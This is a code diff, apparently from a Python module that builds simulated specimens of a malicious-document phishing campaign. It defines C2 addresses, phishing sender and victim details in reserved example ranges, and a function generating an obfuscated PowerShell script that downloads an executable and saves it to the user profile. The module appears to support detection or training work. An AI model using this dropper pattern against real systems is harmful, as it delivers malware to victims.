@@ -40,8 +40,16 @@ C2_DIRECT: Final = ("198.51.100.23", 7080)
 C2_PROXIED: Final = ("198.51.100.61", 8080)
 C2_PROXIED_443: Final = ("198.51.100.61", 443)
 
-DOCUMENT: Final = Attachment("請求書_20200722.doc", DOC, 172_544, "minato-day:document:1")
-"""What the victim opens; its hashes are in the list."""
+SENDER_HOST: Final = ("mail.tsukuba-shoji.example", "192.0.2.44")
+SENDER_NAME: Final = "武田 誠"
+SENDER: Final = "takeda@tsukuba-shoji.example"
+VICTIM_MAILBOX: Final = "t.suzuki@minato-works.example"
+SUBJECT: Final = "Re: 見積書の件"
+MESSAGE_ID: Final = "<20200722040508.9D1C@mail.tsukuba-shoji.example>"
+THREAD: Final = "<20200717093104.5F3A@mail.tsukuba-shoji.example>"
+
+DOCUMENT: Final = ("請求書_20200722.doc", 172_544)
+"""What the victim opens: name and bytes; `specimens.family` builds it, and its hashes are in the list."""
 DOCUMENT_UNKNOWN: Final = Attachment("請求書_07222020.doc", DOC, 173_056, "minato-day:document:2")
 """What the other recipient got: the file changed from mail to mail, and nobody has reported this one."""
 
@@ -60,14 +68,20 @@ def _variable(rng: Random) -> str:
     return f"${letters}{rng.randrange(10, 99)}"
 
 
-def script(rng: Random) -> str:
-    """The text that the macro hands to PowerShell, base64 over UTF-16LE."""
+def script(rng: Random, downloads: tuple[str, ...] = DOWNLOADS, number: str = "284") -> str:
+    """The text that the macro hands to PowerShell, base64 over UTF-16LE.
+
+    Args:
+        rng: Chance of its names.
+        downloads: Addresses, joined by ``*``.
+        number: Name of the executable that it writes.
+    """
     junk, name, path, client, urls, url = (_variable(rng) for _ in range(6))
     noise = [f"{_variable(rng)}='{_word(rng, 7)}'" for _ in range(6)]
-    joined = "*".join(DOWNLOADS)
+    joined = "*".join(downloads)
     return (
         f"{junk}='{_word(rng, 7)}';{name} = "
-        f"'284';{noise[0]};{path}=$env:userprofile+'\\'+{name}+'.exe';{noise[1]};"
+        f"'{number}';{noise[0]};{path}=$env:userprofile+'\\'+{name}+'.exe';{noise[1]};"
         f"{client}=new-object net.webclient;{urls}='{joined}'.split('*');{noise[2]};"
         f"foreach({url} in {urls}){{try{{{client}.DownloadFile({url}, {path});{noise[3]};"
         f"If ((Get-Item {path}).length -ge 23617) "
